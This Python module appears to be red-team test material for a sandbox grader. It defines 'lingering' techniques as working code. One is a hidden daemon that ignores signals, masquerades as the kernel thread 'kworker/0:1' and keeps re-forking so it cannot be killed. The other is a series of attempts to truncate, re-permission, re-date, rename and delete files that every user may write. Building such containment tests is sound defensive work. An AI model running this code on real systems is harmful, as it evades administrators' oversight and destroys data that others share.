"""What lingers where only the wall can hold it: files that every user may write, daemons that hide."""

from grader.redteam.technique import Technique
from grader.redteam.techniques.lingering import lingers

TECHNIQUES: tuple[Technique, ...] = (
    lingers(
        "become a daemon that nobody can find",
        "beyond: double fork, PR_SET_PDEATHSIG, PR_SET_DUMPABLE",
        """
import ctypes, os, signal, time

LIBC = ctypes.CDLL(None)
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGPIPE, signal.SIGCHLD):
            signal.signal(number, signal.SIG_IGN)
        LIBC.prctl(1, 0, 0, 0, 0)
        LIBC.prctl(36, 0, 0, 0, 0)
        LIBC.prctl(15, b"kworker/0:1", 0, 0, 0)
        if os.fork() == 0:
            LIBC.prctl(1, 0, 0, 0, 0)
            LIBC.prctl(4, 0, 0, 0, 0)
            try:
                os.chdir("/")
            except OSError:
                pass
            os.closerange(0, 512)
            while True:
                if os.fork():
                    os._exit(0)
                os.setsid()
                time.sleep(0.02)
        os._exit(0)
""",
        """
import ctypes, os

if os.fork() == 0:
    os.setsid()
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    if os.fork():
        os._exit(0)
    os.execve("/bin/sh", ["kworker", "-c", "trap '' HUP TERM; exec >/dev/null 2>&1 </dev/null; while :; do sleep 1; done"], {})
""",
    ),
    lingers(
        "empty, rewrite and re-date files that every user may write",
        "beyond: O_TRUNC, truncate, chmod, utime by path",
        """
import ctypes, os

path, folder = "@commons@/minutes", "@commons@"
LIBC = ctypes.CDLL(None)
for change in (lambda: os.utime(path, (0, 0)), lambda: os.chmod(path, 0o600), lambda: os.chmod(folder, 0o700), lambda: os.truncate(path, 0),
               lambda: os.open(path, os.O_RDONLY | os.O_TRUNC), lambda: os.open(path, os.O_WRONLY | os.O_APPEND), lambda: open(path, "w"),
               lambda: os.setxattr(path, "user.mark", b"100"), lambda: os.link(path, "minutes"), lambda: os.link(path, folder + "/copy"),
               lambda: os.symlink(path, folder + "/link"), lambda: os.mkdir(folder + "/own"), lambda: os.mkfifo(folder + "/fifo"),
               lambda: os.rename(path, folder + "/old"), lambda: os.unlink(path), lambda: os.rmdir(folder), lambda: os.chown(path, -1, os.getgid()),
               lambda: LIBC.truncate(path.encode(), 1), lambda: LIBC.creat(path.encode(), 0o777), lambda: LIBC.mknod(path.encode() + b"2", 0o100666, 0)):
    try:
        change()
    except OSError:
        pass
os.symlink(path, "minutes-link")
for change in (lambda: open("minutes-link", "w"), lambda: os.truncate("minutes-link", 0), lambda: os.chmod("minutes-link", 0)):
    try:
        change()
    except OSError:
        pass
""",
    ),
)
